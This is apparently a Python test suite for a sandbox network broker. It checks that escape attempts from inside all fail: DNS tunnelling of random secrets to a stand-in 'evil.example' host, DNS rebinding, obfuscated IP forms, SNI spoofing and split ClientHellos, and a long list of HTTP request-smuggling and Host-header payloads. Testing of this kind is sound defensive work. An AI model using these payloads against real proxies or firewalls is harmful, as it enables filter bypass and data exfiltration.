"""Attacks on the network's rules from inside, each of which has to fail, and to be seen to."""

import json
import os
import socket
import time

from harness import wait_for
from internet import LAN, OTHER, WEB
from network_case import NetworkCase, allow, rule

ORG = allow("example.org", "*.example.org")


class Addresses(NetworkCase):
    def refused(self, network, targets, **sections):
        """None of (host, port) can be connected to, and all fail fast."""
        done = self.python(network, f"""
for host, port in {targets!r}:
    def attempt():
        s = dial(host, port, 8)
        s.sendall(b"GET / HTTP/1.0\\r\\nHost: " + host.encode() + b"\\r\\n\\r\\n")
        data = whole(s)
        return "reset" if data in (b"", b"broken") else "REACHED " + repr(data[:80])
    print(host, port, result(attempt))
""", timeout=120, **sections)
        for line in done.stdout.splitlines():
            self.assertNotIn("REACHED", line)
            self.assertNotIn("slow", line)
        self.assertEqual(len(done.stdout.splitlines()), len(targets), done.stdout + done.stderr)
        return done.stdout.splitlines()

    def test_addresses_are_not_names(self):
        """Connecting by address, with a policy that names only names."""
        self.refused(ORG, [(address, port) for address in (*WEB, *OTHER, *LAN, "1.1.1.1", "::ffff:203.0.113.10",
                                                           "::ffff:10.0.0.1", "64:ff9b::cb00:710a") for port in (80, 443)])
        self.assert_nothing_arrived()

    def test_the_same_where_every_port_is_open(self):
        network = {"egress": {"allow": [rule("example.org", "203.0.113.66")]}}
        targets = [(a, 80) for a in (*WEB, OTHER[1], *LAN, "::ffff:203.0.113.10", "::ffff:10.0.0.1", "255.255.255.255",
                                     "224.0.0.1", "0.0.0.0", "198.51.100.2", "2001:db8:ffff::2")]
        self.refused(network, targets)
        self.assert_nothing_arrived()
        self.assertEqual(self.curl(network, "http://203.0.113.66/")["server"], "other")
        self.assertEqual(self.curl(network, "http://[::ffff:203.0.113.66]/")["server"], "other")

    def test_private_addresses_where_all_is_allowed(self):
        network = {"egress": {"default": "allow"}}
        self.refused(network, [(a, 80) for a in (*LAN, "::ffff:10.0.0.1", "::ffff:169.254.169.254", "64:ff9b::a00:1",
                                                 "198.51.100.1", "198.18.77.77", "fd70:6172:636c:6f73::77")])
        self.assertEqual(self.internet.arrivals(), [])
        self.assertEqual(self.curl(network, "http://203.0.113.10/")["server"], "web")

    def test_the_loopback_inside_is_not_the_machines(self):
        for network in (ORG, {"egress": {"default": "allow"}}, {"egress": {"allow": [rule("0.0.0.0/0", "::/0")]}}):
            self.refused(network, [("127.0.0.1", 80), ("127.0.0.1", 443), ("::1", 80), ("127.0.0.2", 80), ("localhost", 80),
                                   ("0.0.0.0", 80), ("::", 80), ("::ffff:127.0.0.1", 80)])
        self.assertEqual(self.internet.arrivals(), [])

    def test_names_that_lead_home(self):
        """DNS rebinding: an allowed name whose addresses are private, this machine's, or a metadata service's."""
        names = ("loop", "loop6", "zero", "private", "cgnat", "meta", "ula", "mapped", "mapped-loop", "nat64", "pool")
        for network in (ORG, {"egress": {"default": "allow"}}):
            self.refused(network, [(f"{name}.example.org", 80) for name in names])
        self.assertEqual(self.internet.arrivals(), [])

    def test_one_good_address_among_bad_ones(self):
        self.assertEqual(self.curl(ORG, "http://both.example.org/")["address"], WEB[0])
        self.assertEqual({a["at"] for a in self.internet.arrivals()}, {"web"})

    def test_rebinding_between_two_connections(self):
        """The name's address changes to 127.0.0.1 and to the metadata service's after the first use."""
        for name in ("rebind", "rebind-meta"):
            done = self.python(ORG, f"""
import urllib.request
def get():
    return json.load(urllib.request.urlopen("http://{name}.example.org/", timeout=8))["server"]
said = []
for _ in range(4):
    said += [result(get), result(get)]
    time.sleep(2.2) # an answer is kept for two seconds at least
print(said)
""")
            said = eval(done.stdout)  # pylint: disable=eval-used
            self.assertEqual(said[0], "web", said)
            self.assertNotEqual(said[-1], "web", said)
        self.assertEqual({a["at"] for a in self.internet.arrivals()}, {"web"})

    def test_a_range_lets_a_name_home_only_there(self):
        network = {"egress": {"allow": [rule("*.example.org", ports=[80]), rule("10.0.0.0/8", ports=[80])]}}
        self.assertEqual(self.curl(network, "http://corp.example.org/")["server"], "lan")
        self.refused(network, [("meta.example.org", 80), ("cgnat.example.org", 80), ("loop.example.org", 80)])
        self.assertEqual({a["at"] for a in self.internet.arrivals()}, {"lan"})

    def test_numbers_that_are_addresses(self):
        for url in ("http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/", "http://127.1/", "http://167772161/",
                    "http://[::ffff:a00:1]/", "http://3405803786/"):
            self.assertNotEqual(self.curl(ORG, url, check=False).returncode, 0, url)
        self.assert_nothing_arrived()


class Lookups(NetworkCase):
    def test_tunnelling(self):
        """Data in names: no question leaves for what the policy does not name, and none in other types."""
        self.python(ORG, """
import base64
def query(name, kind, where=("127.0.0.53", 53)):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    wire = b"".join(bytes([len(p)]) + p for p in name.encode().split(b".")) + b"\\0"
    s.sendto(struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + wire + struct.pack(">HH", kind, 1), where)
    return s.recv(4096)
for i in range(300):
    secret = base64.b32encode(os.urandom(30)).decode().rstrip("=").lower()
    for kind in (1, 28, 16, 15, 10, 33, 65, 255, 65399):
        reply = query(secret + ".tunnel.evil.example", kind)
        assert reply[3] & 15 == 5, reply
for kind in (16, 15, 10, 33, 65, 255):
    assert query("secret.example.org", kind)[3] & 15 == 0
""", timeout=120)
        self.assert_nothing_arrived()

    def test_no_lookup_leaves_for_an_answer(self):
        """An answer for an allowed name needs none either; only a connection does."""
        self.inside(ORG, "sh", "-c", "getent ahosts example.org; getent hosts secret-data-goes-here.example.org")
        self.assert_nothing_arrived()

    def test_other_resolvers_are_not_there(self):
        done = self.inside(ORG, "sh", "-c", "for s in 192.0.2.53 8.8.8.8 2001:db8:53::53 198.51.100.1; do "
                           "dig +time=2 +tries=1 @$s example.org; dig +tcp +time=2 +tries=1 @$s example.org; done", check=False,
                           timeout=60)
        self.assertNotIn("status: NOERROR", done.stdout)
        self.assert_nothing_arrived()

    def test_malformed_questions(self):
        """Whatever comes, the next good question is answered."""
        self.python(ORG, """
good = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\\7example\\3org\\0" + struct.pack(">HH", 1, 1)
import random
random.seed(6)
bad = [b"", b"\\0", good[:12], good[:-1], b"\\xff" * 512, good[:4] + b"\\xff\\xff" + good[6:],
       good[:12] + b"\\xc0\\x0c" + good[-4:], good[:12] + b"\\x3f" + b"a" * 10, good + b"x" * 3000,
       good[:12] + b"\\7exam\\0le\\3org\\0" + good[-4:], good[:12] + (b"\\1a" * 200) + b"\\0" + good[-4:]]
for _ in range(3000):
    b = bytearray(good + b"\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\0")
    for _ in range(random.randrange(1, 6)):
        b[random.randrange(len(b))] = random.randrange(256)
    bad.append(bytes(b[:random.randrange(len(b) + 1)]))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("127.0.0.53", 53))
for b in bad:
    s.send(b)
t = dial("127.0.0.53", 53)
for b in bad[:11]:
    try:
        t.sendall(struct.pack(">H", len(b)) + b)
    except OSError:
        t = dial("127.0.0.53", 53)
half = [dial("127.0.0.53", 53) for _ in range(50)]
for h in half:
    h.send(b"\\0")
print(socket.getaddrinfo("example.org", 80)[0][4][0][:6])
""")

    def test_the_pool_runs_out(self):
        """More names than it has addresses: new ones are refused or take the place of idle ones, those in use stay."""
        network = allow("*.example.org", ports=[7, 80])
        done = self.python(network, """
held = dial("www.example.org", 7)
held.sendall(b"a\\n")
assert held.recv(2) == b"a\\n"
before = socket.gethostbyname("www.example.org")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("127.0.0.53", 53))
s.settimeout(5)
start, refused = time.monotonic(), 0
for i in range(140000):
    name = b"n%d" % i
    wire = bytes([len(name)]) + name + b"\\7example\\3org\\0"
    s.send(struct.pack(">HHHHHH", i & 0xffff, 0x100, 1, 0, 0, 0) + wire + struct.pack(">HH", 1, 1))
    reply = s.recv(600)
    refused += reply[3] & 15 != 0
held.sendall(b"b\\n")
assert held.recv(2) == b"b\\n", "the connection in use"
assert socket.gethostbyname("www.example.org") == before
s = dial("www.example.org", 80)
s.sendall(b"GET / HTTP/1.0\\r\\nHost: www.example.org\\r\\n\\r\\n")
print(whole(s).split()[1], refused)
""", timeout=300)
        self.assertTrue(done.stdout.startswith("b'200'"), done.stdout)


class Hosts(NetworkCase):
    """One name's connection used for another host."""

    def test_the_servers_name_in_tls(self):
        """The ClientHello's name is not the one connected to, on any port, or missing, or not a name."""
        network = {"egress": {"allow": [rule("example.org", "www.example.org", ports=[443, 8443])]}}
        done = self.python(network, """
for port in (443, 8443):
    for sni in ("example.org", "www.example.org", "evil.example", "EXAMPLE.ORG", None, "203.0.113.66", "example.org.evil.example"):
        def attempt():
            s = tls(dial("example.org", port), sni)
            s.sendall(b"GET / HTTP/1.1\\r\\nHost: example.org\\r\\nConnection: close\\r\\n\\r\\n")
            return "reached" if b"200" in whole(s)[:20] else "reset"
        print(sni, result(attempt))
""")
        for line in done.stdout.splitlines():
            sni, _, what = line.partition(" ")
            self.assertEqual(what == "reached", sni.lower() == "example.org", line)
        self.assertEqual({r["sni"].lower() for r in self.requests()}, {"example.org"})

    def test_a_rule_can_let_tls_be(self):
        network = {"egress": {"allow": [rule("example.org", ports=[443], tls="any")]}}
        done = self.python(network, """
s = tls(dial("example.org", 443), None)
s.sendall(b"GET / HTTP/1.1\\r\\nHost: example.org\\r\\nConnection: close\\r\\n\\r\\n")
print(whole(s)[:12])
""")
        self.assertEqual(done.stdout, "b'HTTP/1.1 200'\n")

    def hello(self):
        """A ClientHello, as python sends it: bytes from a memory BIO."""
        return """
def client_hello(name):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    o = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        o.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()

def split_records(hello, size):
    'The same handshake message in records of `size` bytes.'
    body = hello[5:]
    return b"".join(hello[:3] + struct.pack(">H", len(body[i:i + size])) + body[i:i + size] for i in range(0, len(body), size))

def answered(host, pieces, pause=0.0):
    s = dial(host, 443)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for p in pieces:
        s.sendall(p)
        if pause:
            time.sleep(pause)
    s.settimeout(5)
    data = s.recv(5)
    return "hello" if data[:1] == b"\\x16" else "reset" if data == b"" else repr(data)
"""

    def test_a_client_hello_in_pieces(self):
        """Segments of one byte, records of one byte, both: the good one passes, the bad one does not."""
        done = self.python(ORG, self.hello() + """
for name in ("example.org", "evil.example"):
    hello = client_hello(name)
    one = [hello[i:i + 1] for i in range(len(hello))]
    records = split_records(hello, 1)
    print(name, result(answered, "example.org", one, 0.0005),
          result(answered, "example.org", [split_records(hello, 7)]),
          result(answered, "example.org", [split_records(hello, 3)[i:i + 1] for i in range(len(split_records(hello, 3)))]))
""")
        good, bad = done.stdout.splitlines()
        self.assertEqual(good.split()[1], "hello")
        self.assertNotIn("hello", bad)
        self.assertEqual([r for r in self.internet.arrivals() if r["at"] == "other"], [])

    def test_encrypted_client_hello(self):
        """ECH towards another outer name (RFC 9849): the outer name is what is looked at."""
        done = self.python(ORG, self.hello() + """
def with_extension(hello, kind, body):
    head, rest = bytearray(hello), b""
    at = 5 + 4 + 2 + 32
    at += 1 + head[at]
    at += 2 + struct.unpack(">H", head[at:at + 2])[0]
    at += 1 + head[at]
    extension = struct.pack(">HH", kind, len(body)) + body
    head[at:at + 2] = struct.pack(">H", struct.unpack(">H", head[at:at + 2])[0] + len(extension))
    head += extension
    head[3:5] = struct.pack(">H", len(head) - 5)
    head[6:9] = struct.pack(">I", len(head) - 9)[1:]
    return bytes(head)
ech = b"\\0" + struct.pack(">HHB", 1, 1, 7) + struct.pack(">H", 32) + os.urandom(32) + struct.pack(">H", 200) + os.urandom(200)
for outer in ("example.org", "evil.example", "public.cdn.example"):
    print(outer, result(answered, "example.org", [with_extension(client_hello(outer), 0xfe0d, ech)]))
""")
        lines = dict(line.split(" ", 1) for line in done.stdout.splitlines())
        self.assertEqual(lines["example.org"], "hello")
        self.assertNotEqual(lines["evil.example"], "hello")
        self.assertNotEqual(lines["public.cdn.example"], "hello")

    def test_hosts_in_plain_http(self):
        """Each request's Host, whatever came before it on the connection, and however it is written."""
        done = self.python(ORG, r"""
good = b"GET /good HTTP/1.1\r\nHost: example.org\r\n\r\n"
bad = {
    "swap": good + b"GET /bad HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "first": b"GET /bad HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "other allowed name": b"GET /bad HTTP/1.1\r\nHost: www.example.org\r\n\r\n",
    "two": b"GET /bad HTTP/1.1\r\nHost: example.org\r\nHost: evil.example\r\n\r\n",
    "two alike": b"GET /bad HTTP/1.1\r\nHost: example.org\r\nHost: example.org\r\n\r\n",
    "none": b"GET /bad HTTP/1.1\r\nX: y\r\n\r\n",
    "empty": b"GET /bad HTTP/1.1\r\nHost:\r\n\r\n",
    "absolute": b"GET http://evil.example/bad HTTP/1.1\r\nHost: example.org\r\n\r\n",
    "absolute user": b"GET http://example.org@evil.example/bad HTTP/1.1\r\nHost: example.org\r\n\r\n",
    "user": b"GET /bad HTTP/1.1\r\nHost: example.org@evil.example\r\n\r\n",
    "comma": b"GET /bad HTTP/1.1\r\nHost: example.org, evil.example\r\n\r\n",
    "fold": b"GET /bad HTTP/1.1\r\nHost: example.org\r\n evil.example\r\n\r\n",
    "folded away": b"GET /bad HTTP/1.1\r\nX: y\r\n Host: example.org\r\nHost: evil.example\r\n\r\n",
    "space": b"GET /bad HTTP/1.1\r\nHost : evil.example\r\nHost: example.org\r\n\r\n",
    "space before": b"GET /bad HTTP/1.1\r\n Host: evil.example\r\nHost: example.org\r\n\r\n",
    "bare lf": b"GET /bad HTTP/1.1\nHost: evil.example\n\n",
    "bare cr": b"GET /bad HTTP/1.1\r\nX: y\rHost: evil.example\r\nHost: example.org\r\n\r\n",
    "nul": b"GET /bad HTTP/1.1\r\nHost: example.org\0evil.example\r\n\r\n",
    "1.0": b"GET /bad HTTP/1.0\r\nHost: evil.example\r\n\r\n",
    "0.9": b"GET /bad\r\n",
    "0.9 with a host": b"POST /bad\r\nHost: evil.example\r\n\r\n",
    "rtsp": b"OPTIONS /bad RTSP/1.0\r\nHost: evil.example\r\n\r\n",
    "icecast": b"SOURCE /bad ICE/1.0\r\nHost: evil.example\r\n\r\n",
    "lengths": b"POST /good HTTP/1.1\r\nHost: example.org\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    "both": b"POST /bad HTTP/1.1\r\nHost: example.org\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /bad HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "te list": b"POST /bad HTTP/1.1\r\nHost: example.org\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\nGET /bad HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "smuggled": b"POST /echo HTTP/1.1\r\nHost: example.org\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /bad HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "behind a body": b"POST /echo HTTP/1.1\r\nHost: example.org\r\nContent-Length: 5\r\n\r\nhelloGET /bad HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "connect": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\nGET /bad HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "connect mixed": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: example.org\r\n\r\n",
    "connect own, then another": b"CONNECT example.org:80 HTTP/1.1\r\nHost: example.org:80\r\n\r\nGET /bad HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "upgrade refused, then another": b"GET /x HTTP/1.1\r\nHost: example.org\r\nConnection: Upgrade\r\nUpgrade: nothing-known\r\n\r\nGET /bad HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "http/2 without tls": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0",
    "upgrade to http/2": b"GET /bad HTTP/1.1\r\nHost: evil.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
    "empty lines first": b"\r\n\r\nGET /bad HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "lower case method": b"get /bad HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    "long": b"GET /bad HTTP/1.1\r\nX: " + b"x" * 200000 + b"\r\nHost: evil.example\r\n\r\n",
}
for what, data in bad.items():
    for pieces in ([data], [data[i:i + 1] for i in range(len(data))] if len(data) < 400 else [data]):
        def attempt():
            s = dial("example.org", 80)
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for p in pieces:
                s.sendall(p)
            s.settimeout(1.5)
            return whole(s)
        result(attempt)
print("done")
""", timeout=200)
        self.assertEqual(done.stdout, "done\n", done.stderr)
        bad = [r for r in self.requests() if r["path"] in ("/bad", "http://evil.example/bad") or
               (r["host"] or "").split(":")[0].lower() not in ("example.org",)]
        self.assertEqual(bad, [])
        self.assertEqual({a["at"] for a in self.internet.arrivals()}, {"web"})

    def test_the_second_request_on_a_connection(self):
        done = self.python(ORG, r"""
def ask(s, host):
    s.sendall(b"GET /" + host + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n")
    data = b""
    while not data.endswith(b"\r\n0\r\n\r\n"):
        more = s.recv(4096)
        if not more:
            return "end"
        data += more
    return data.split()[1].decode()
s = dial("example.org", 80)
print(*(result(ask, s, host) for host in (b"example.org", b"EXAMPLE.ORG:80", b"example.org", b"evil.example", b"example.org")))
""")
        said = done.stdout.split()
        self.assertEqual(said[:3], ["200"] * 3)
        self.assertNotIn("200", said[3:])
        self.assertEqual(len(self.requests()), 3)

    def test_a_websocket_is_a_tunnel_to_the_same_host(self):
        done = self.python(ORG, r"""
s = dial("example.org", 80)
s.sendall(b"GET /ws HTTP/1.1\r\nHost: example.org\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
s.settimeout(5)
assert b" 101 " in s.recv(4096)
text = b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n"
s.sendall(bytes([0x81, 0x80 | len(text), 0, 0, 0, 0]) + text)
print(s.recv(4096)[2:] == text)
""")
        self.assertEqual(done.stdout, "True\n")


class Sockets(NetworkCase):
    def test_nothing_of_the_broker_is_within_reach(self):
        """Its listening sockets are nobody's inside; nothing but them and the name service listens."""
        done = self.inside(ORG, "sh", "-c", "cat /proc/net/unix; ls -l /proc/1/fd /proc/self/fd; ls /proc | grep '^[0-9]'", check=False)
        self.assertNotIn("network", done.stdout)
        self.python(ORG, """
for number in range(3, 64):
    try:
        os.fstat(number)
    except OSError:
        continue
    assert False, os.readlink(f"/proc/self/fd/{number}")
# All that listens is refused but by name: connecting to the address of a listener itself.
for where in (("127.0.0.1", 443), ("::1", 443), ("127.0.0.53", 443), ("192.0.0.8", 443)):
    def attempt():
        s = dial(*where)
        s.sendall(b"x")
        return "REACHED" if whole(s) not in (b"", b"broken") else "reset"
    assert result(attempt) != "REACHED", where
# Nor can another take its place.
for where in (("0.0.0.0", 443), ("::", 443), ("127.0.0.53", 53)):
    s = socket.socket(socket.AF_INET6 if ":" in where[0] else socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    def bind():
        s.bind(where)
        s.listen()
        return "BOUND"
    said = result(bind)
    assert said in ("EADDRINUSE", "EACCES", "EPERM"), (where, said)
""")

    def test_abstract_sockets_of_the_machine(self):
        listener = socket.socket(socket.AF_UNIX)
        listener.bind("\0parclose-test-abstract")
        listener.listen()
        self.addCleanup(listener.close)
        done = self.python(ORG, """
s = socket.socket(socket.AF_UNIX)
print(result(lambda: s.connect("\\0parclose-test-abstract")))
""")
        self.assertIn(done.stdout.strip(), ("ECONNREFUSED", "EPERM"))

    def test_raw_and_packet_sockets(self):
        done = self.python(ORG, """
AF_PACKET, AF_VSOCK, AF_ALG, AF_XDP = 17, 40, 38, 44
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET, socket.SOCK_RAW, 6),
        (socket.AF_INET, socket.SOCK_RAW, 255), (socket.AF_INET6, socket.SOCK_RAW, 58), (AF_PACKET, socket.SOCK_RAW, 0x300),
        (AF_PACKET, socket.SOCK_DGRAM, 0x300), (AF_VSOCK, socket.SOCK_STREAM, 0), (AF_ALG, 5, 0), (AF_XDP, socket.SOCK_RAW, 0),
        (socket.AF_NETLINK, socket.SOCK_RAW, 12), (socket.AF_INET, socket.SOCK_STREAM, 262), (socket.AF_INET, 5, 132)):
    def make():
        socket.socket(family, kind, protocol)
        return "MADE"
    print(family, kind, protocol, result(make))
s = socket.socket()
for option in (19, 75, 15):  # IP_TRANSPARENT, SO_MARK's kin
    print("option", option, result(lambda: s.setsockopt(socket.IPPROTO_IP, option, 1) or "SET"))
print("device", result(lambda: s.setsockopt(socket.SOL_SOCKET, 36, 1) or "SET"))
""")
        lines = done.stdout.splitlines()
        self.assertEqual([line for line in lines if "MADE" in line], [], done.stdout)
        self.assertIn("device EPERM", lines)
        self.assertIn("option 19 EPERM", lines)

    def test_interfaces_routes_and_filters_cannot_be_changed(self):
        done = self.inside(ORG, "sh", "-c", """
            ip link add v0 type veth peer name v1; ip link add d0 type dummy; ip addr add 10.9.9.9/8 dev lo
            ip route add 10.0.0.0/8 dev lo; ip route del local 198.18.0.0/15 dev lo; ip link set lo down
            ip tuntap add mode tun; nft flush ruleset; nft list ruleset; iptables -F
            unshare -n true; unshare -Urn true; ip netns add x; echo 1 >/proc/sys/net/ipv4/ip_forward
            nsenter -t 1 -n true
            echo end""", check=False)
        self.assertIn("end", done.stdout)
        done = self.inside(ORG, "sh", "-c", "ip link add d0 type dummy 2>/dev/null && echo MADE; ip route add 10.0.0.0/8 dev lo "
                           "2>/dev/null && echo ROUTED; ip link set lo down 2>/dev/null && echo DOWN; nft flush ruleset 2>/dev/null "
                           "&& echo FLUSHED; unshare -n true 2>/dev/null && echo UNSHARED; true")
        self.assertEqual(done.stdout, "")

    def test_a_network_namespace_of_its_own_is_empty(self):
        """Where nested sandboxes are allowed: a namespace made inside has nothing that leads out."""
        done = self.inside(ORG, "unshare", "-Urn", "sh", "-c", "ip link set lo up; ip -br link; "
                           "curl -sS -m 3 https://example.org/; curl -sS -m 3 http://203.0.113.10/", check=False,
                           process={"nestedSandbox": True})
        self.assertNotIn('"server"', done.stdout)
        self.assert_nothing_arrived()

    def test_ten_thousand_half_open_connections(self):
        """They cost others nothing: an ordinary connection gets through beside them, and afterwards."""
        network = allow("example.org", ports=[443, 80])
        done = self.python(network, """
import resource, select
resource.setrlimit(resource.RLIMIT_NOFILE, (16384, 16384))
address = socket.getaddrinfo("example.org", 443, socket.AF_INET)[0][4]
held, slowest = [], 0
def ask():
    start = time.monotonic()
    s = dial("example.org", 80)
    s.sendall(b"GET / HTTP/1.0\\r\\nHost: example.org\\r\\n\\r\\n")
    assert whole(s)[9:12] == b"200"
    return time.monotonic() - start
for i in range(10000):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
    try:
        s.connect(address)
    except BlockingIOError:
        pass
    held.append(s)
    if i % 50 == 49:
        for s in held[-50:]:
            try:
                s.send(b"\\x16\\x03\\x01\\x02\\x00")
            except OSError:
                pass
    if i % 2000 == 1999:
        slowest = max(slowest, ask())
slowest = max(slowest, ask())
print(slowest)
for s in held:
    s.close()
time.sleep(1)
print(ask())
""", limits={"openFiles": 16384}, timeout=240)
        during, after = (float(line) for line in done.stdout.split())
        self.assertLess(during, 10)
        self.assertLess(after, 2)

    def test_datagrams_go_to_ranges_only(self):
        network = {"egress": {"allow": [rule("example.org", ports=[80]),
                                        rule("203.0.113.10", ports=[{"protocol": "udp", "port": 7}])]}}
        done = self.python(network, """
def ask(host, port):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect((host, port))
    s.send(b"hello")
    return s.recv(100)
name = socket.gethostbyname("example.org")
for where in (("203.0.113.10", 7), ("203.0.113.66", 7), ("203.0.113.10", 443), (name, 7), ("10.0.0.1", 7), ("127.0.0.1", 7)):
    print(*where, result(ask, *where))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
got = set()
for i in range(200):
    s.sendto(b"%d" % i, ("203.0.113.10", 7))
    got.add(s.recv(100))
print(len(got))
""")
        lines = done.stdout.splitlines()
        self.assertEqual(lines[0], "203.0.113.10 7 b'hello'")
        self.assertTrue(all("b'" not in line for line in lines[1:6]), lines)
        self.assertEqual(lines[6], "200")
        self.assertEqual({a["at"] for a in self.internet.arrivals()}, {"web"})


class Broker(NetworkCase):
    """What an attacker who took over the broker would have in hand."""

    def test_it_is_confined(self):
        self.detach("sleep", "600", policy=self.network_policy(ORG))
        info = self.inspect()
        pid = info["network"]["broker"]["pid"]
        with open(f"/proc/{pid}/status", encoding="utf-8") as file:
            status = dict(line.split(":\t", 1) for line in file.read().splitlines() if ":\t" in line)
        self.assertEqual(status["NoNewPrivs"], "1")
        self.assertEqual(status["Seccomp"], "2")
        for kind in ("CapEff", "CapPrm", "CapBnd", "CapInh", "CapAmb"):
            self.assertEqual(int(status[kind], 16), 0, kind)
        if os.getuid() == 0:
            self.assertEqual(os.listdir(f"/proc/{pid}/root/"), [])
        self.assertNotEqual(os.readlink(f"/proc/{pid}/ns/mnt"), os.readlink("/proc/self/ns/mnt"))

    def test_its_end_is_the_sessions(self):
        """Nothing goes out any more, and it is said why: never a session whose network has quietly gone."""
        self.detach("sleep", "600", policy=self.network_policy(ORG))
        info = self.inspect()
        pids = self.pids(info)
        os.kill(info["network"]["broker"]["pid"], 9)
        self.assert_gone(pids - {info["network"]["broker"]["pid"]}, 10)
        listed = json.loads(self.cli("list", "--all", "--json").stdout)
        self.assertIn("network", json.dumps(listed))

    def test_it_ends_with_the_session(self):
        self.detach("sleep", "600", policy=self.network_policy(ORG))
        info = self.inspect()
        pids = self.pids(info)
        self.assertIn(info["network"]["broker"]["pid"], pids)
        os.kill(info["supervisor"]["pid"], 9)
        self.assert_gone(pids, 10)

    def test_an_idle_session_costs_nothing(self):
        self.detach("sleep", "600", policy=self.network_policy(ORG))
        pid = self.inspect()["network"]["broker"]["pid"]

        def switches():
            with open(f"/proc/{pid}/status", encoding="utf-8") as file:
                return sum(int(line.split()[1]) for line in file if "ctxt_switches" in line)
        time.sleep(1)
        before = switches()
        time.sleep(3)
        self.assertLessEqual(switches() - before, 1)
